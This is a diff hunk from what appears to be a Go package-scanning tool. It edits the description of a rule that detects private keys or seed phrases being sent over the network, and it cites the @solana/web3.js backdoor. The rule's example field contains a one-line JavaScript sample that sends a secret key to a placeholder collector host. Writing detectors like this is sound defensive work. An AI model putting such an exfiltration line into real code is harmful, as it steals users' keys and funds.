@@ -164,7 +164,7 @@ func (SecretExfil) Meta() analyze.Meta {
 	return analyze.Meta{
 		ID: "cred/secret-exfil", Version: 2, Title: "Sends private keys or seed phrases to the network",
 		Help: "A value named like a private key, secret key, mnemonic or seed phrase is passed to a network call, or to a local function whose body " +
-			"posts to a hard-coded URL (a bare call counts only when it calls that very function: bundles reuse one-letter names, and a name "+
+			"posts to a hard-coded URL (a bare call counts only when it calls that very function: bundles reuse one-letter names, and a name " +
 			"alone would match them all). Wallet libraries sign locally; sending key material anywhere is theft (the @solana/web3.js 1.95.6-7 backdoor).",
 		Remediation:     "Do not use this version; move funds from any key it handled.",
 		Example:         `function q(k){ fetch("https://collector.example/q", {headers: {"x-id": k}}) } q(keypair.secretKey)`,
